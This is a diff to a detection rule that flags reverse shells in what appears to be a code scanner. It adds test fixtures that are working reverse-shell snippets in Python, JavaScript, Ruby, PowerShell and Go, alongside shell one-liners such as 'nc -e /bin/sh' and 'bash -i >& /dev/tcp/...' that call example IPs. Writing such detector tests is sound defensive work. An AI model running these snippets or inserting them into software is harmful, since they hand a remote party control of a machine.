@@ -1,4 +1,5 @@
-import { defineRule, text } from "../../core/rule.ts";
+import { defineRule, text, whole } from "../../core/rule.ts";
+import { handedShells } from "./reverse-shell.data.ts";
 
 export default defineRule({
   id: "privilege/reverse-shell",
@@ -15,6 +16,7 @@ export default defineRule({
     cwe: ["CWE-506", "CWE-912"],
   },
   checks: [
+    whole(handedShells),
     text({
       anchors: ["/dev/tcp/", "/dev/udp/"],
       pattern:
@@ -85,6 +87,36 @@ export default defineRule({
   ],
   examples: {
     bad: [
+      {
+        path: "tune.py",
+        text: 'import os, pty, socket\n\ndef tune(at):\n    s = socket.create_connection(at, 5)\n    if os.fork():\n        return\n    for fd in range(3):\n        os.dup2(s.fileno(), fd)\n    pty.spawn(os.environ.get("SHELL", "/bin/sh"))\n',
+        line: 8,
+      },
+      {
+        path: "tune.js",
+        text: 'const net = require("net");\nconst cp = require("child_process");\nconst c = net.createConnection(9001, host, () => {\n  const p = cp.spawn(process.env.SHELL || "sh");\n  c.pipe(p.stdin);\n  p.stdout.pipe(c);\n});\n',
+        line: 5,
+      },
+      {
+        path: "tune.rb",
+        text: 'require "socket"\ns = TCPSocket.new(host, 9001)\nwhile line = s.gets\n  IO.popen(line, "r") { |io| s.print io.read }\nend\n',
+        line: 3,
+      },
+      {
+        path: "tune.ps1",
+        text: "$c = New-Object Net.Sockets.TcpClient($h, 9001)\n$s = $c.GetStream()\n$b = New-Object byte[] 65535\nwhile (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $o = (Invoke-Expression ([Text.Encoding]::ASCII.GetString($b, 0, $i)) | Out-String)\n}\n",
+        line: 1,
+      },
+      {
+        path: "tune.go",
+        text: 'package main\n\nfunc main() {\n\tc, _ := net.Dial("tcp", at)\n\tcmd := exec.Command("sh")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Run()\n}\n',
+        line: 6,
+      },
+      {
+        path: "poll.py",
+        text: "import socket, subprocess\ns = socket.socket()\ns.connect(at)\nwhile True:\n    line = s.recv(4096).decode()\n    done = subprocess.run(line, shell=True, capture_output=True)\n    s.sendall(done.stdout)\n",
+        line: 5,
+      },
       { path: "b.sh", text: "mkfifo /tmp/p; nc 203.0.113.5 9001 < /tmp/p | /bin/sh > /tmp/p 2>&1\n", line: 1 },
       { path: "c.sh", text: "nc -e \\\n  /bin/sh 203.0.113.5 9001\n", line: 1 },
       { path: "diag.sh", text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", line: 1 },
@@ -96,6 +128,14 @@ export default defineRule({
       },
     ],
     good: [
+      {
+        path: "bridge.py",
+        text: "import socket, subprocess\ns = socket.socket()\ns.bind(('127.0.0.1', 9000))\ns.listen()\nc, _ = s.accept()\nline = c.recv(100)\nsubprocess.run(['open', 'a'])\n",
+      },
+      {
+        path: "proxy.js",
+        text: 'const net = require("net");\nconst up = net.connect(80, host);\nclient.pipe(up);\nup.pipe(client);\nconst p = spawn("ls");\np.stdout.pipe(process.stdout);\n',
+      },
       {
         path: "wait.sh",
         text: "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\nnc -z db 5432\n",
